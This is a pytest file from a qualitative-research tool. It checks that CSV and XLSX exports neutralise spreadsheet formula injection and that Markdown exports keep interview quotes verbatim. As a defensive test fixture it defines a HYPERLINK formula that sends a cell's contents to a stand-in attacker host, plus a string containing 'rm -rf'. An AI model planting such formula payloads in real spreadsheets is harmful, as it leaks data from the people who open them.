"""Spreadsheet formula injection, verbatim quotes in Markdown, the speaker column, and
Taguette's codebook CSV."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from qualflow.exchange.provenance import export_decisions, export_proposals
from qualflow.exchange.tables import (
    quotes_by_code,
    resolve_source,
    source_codebook,
    write_paper_tables,
    write_table,
)
from qualflow.exchange.taguette import codebook_csv, read_codebook_csv, write_codebook_csv
from qualflow.models import Code, Codebook
from qualflow.segment import segment
from tests.fixtures.exchange.study import build_study, make_transcript

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
MARKUP = "I said *really* `rm -rf` | <b>bold</b> &amp; [link](x) _under_ ~gone~ \\ end."


@pytest.fixture
def hostile(store):
    """A coded study whose quotes, memo and codebook hold formulas and Markdown."""
    t = make_transcript("I-3_hostile", [("I-3", EVIL), ("I-3", MARKUP), ("I-3", "-1 point.")])
    store.save_transcript(t, segment(t, "turn"))
    book = Codebook(
        name="hostile",
        codes=[
            Code(title="=cmd", description="+SUM(A1:A9) in the description"),
            Code(title="markup", description="@mention"),
        ],
    )
    version = store.save_codebook(book)
    ps = store.passages(transcript_id=t.id)
    coding = {
        ps[0].id: frozenset({"=cmd"}),
        ps[1].id: frozenset({"markup"}),
        ps[2].id: frozenset({"markup"}),
    }
    store.save_gold("h", "hana", coding, version)
    return ps


def cells(path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))


def test_table_csv_and_xlsx_cannot_run_formulas(store, hostile, tmp_path):
    write_paper_tables(store, tmp_path, source="gold:h", formats=["csv", "xlsx"])
    rows = cells(tmp_path / "quotes-by-code.csv")
    header = rows[0]
    quotes = [r[header.index("quote")] for r in rows[1:]]
    assert "'" + EVIL in quotes and "'-1 point." in quotes
    titles = [r[header.index("code")] for r in rows[1:]]
    assert "'=cmd" in titles
    freq = cells(tmp_path / "code-frequency.csv")
    assert any("'+SUM(A1:A9) in the description" in r for r in freq)
    assert any(r[-2:] == ["1", "1"] for r in freq)  # numbers stay numbers
    # XLSX: a string cell holding the verbatim text, never a formula
    wb = load_workbook(tmp_path / "quotes-by-code.xlsx")
    ws = wb.active
    found = [c for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert found and all(c.data_type == "s" and c.quotePrefix for c in found)
    assert ws.cell(row=2, column=1).value in {"=cmd", "markup"}
    with zipfile.ZipFile(tmp_path / "quotes-by-code.xlsx") as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert all(b"<f>" not in zf.read(n) for n in sheets)
    counts = load_workbook(tmp_path / "code-frequency.xlsx").active
    numbers = [c.value for row in counts.iter_rows(min_row=2) for c in row]
    assert 1 in numbers  # counts are numbers in XLSX too


def test_decisions_and_proposals_csv_neutralise_formulas(store, tmp_path):
    from sqlalchemy import select

    from qualflow.db import UserRow
    from qualflow.review.decisions import decide, state

    handles = build_study(store)
    with store.session() as s:
        rita = s.scalar(select(UserRow.id).where(UserRow.username == "rita"))
    pid = handles["passages"]["policy"].id
    decide(store, rita, pid, "memo", version=state(store, rita, pid).version, memo=EVIL)
    out = tmp_path / "decisions.csv"
    export_decisions(store, out)
    rows = cells(out)
    memos = [r[rows[0].index("memo")] for r in rows[1:]]
    assert "'" + EVIL in memos and EVIL not in memos
    assert all(not c.startswith(("=", "+", "@")) for r in rows for c in r)
    # JSONL is data, not a spreadsheet: kept verbatim
    export_decisions(store, tmp_path / "decisions.jsonl")
    assert EVIL.replace('"', '\\"') in (tmp_path / "decisions.jsonl").read_text(encoding="utf-8")
    proposals = tmp_path / "proposals.csv"
    export_proposals(store, proposals)
    assert all(not c.startswith(("=", "+", "@", "\t")) for r in cells(proposals) for c in r)


def test_markdown_quotes_render_verbatim(store, hostile, tmp_path):
    source = resolve_source(store, "gold:h")
    table = quotes_by_code(store, source, source_codebook(store, source))
    path = write_table(table, tmp_path / "quotes.md")
    html = (
        MarkdownIt("commonmark")
        .enable("table")
        .enable("strikethrough")
        .render(path.read_text(encoding="utf-8"))
    )
    from lxml import html as lhtml

    tree = lhtml.fromstring(f"<div>{html}</div>")
    texts = [td.text_content() for td in tree.iter("td")]
    assert MARKUP in texts and EVIL in texts
    assert tree.find(".//b") is None and tree.find(".//em") is None
    assert tree.find(".//code") is None and tree.find(".//a") is None


def test_quotes_by_code_name_the_speaker(store, tmp_path):
    handles = build_study(store)
    question = next(p for p in store.passages() if "How often do you look" in p.text)
    store.save_gold("q", "quinn", {question.id: frozenset({"zz_intro"})}, None)
    source = resolve_source(store, "gold:q")
    table = quotes_by_code(store, source, source_codebook(store, source))
    (row,) = table.rows
    assert "speaker" in table.columns
    assert row["speaker"] == "Interviewer" and row["participant"] == "I-1"
    source = resolve_source(store, "gold:gold-a")
    rows = quotes_by_code(store, source, source_codebook(store, source)).rows
    assert {r["speaker"] for r in rows} == {"I-1", "I-2"}
    assert handles


def test_taguette_codebook_csv_goes_back_into_taguette(tmp_path):
    book = Codebook(
        name="b",
        codes=[
            Code(title="Positive experience", description="Likes it, “really”."),
            Code(title="=odd", description="-starts with a minus"),
        ],
    )
    text = codebook_csv(book)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["tag", "description"]  # the columns Taguette's import reads
    assert rows[1] == ["Positive experience", "Likes it, “really”."]
    assert rows[2] == ["'=odd", "'-starts with a minus"]
    path = tmp_path / "codebook.csv"
    assert write_codebook_csv(book, path) == 2
    back = read_codebook_csv(path)
    assert back.get("Positive experience").description == "Likes it, “really”."
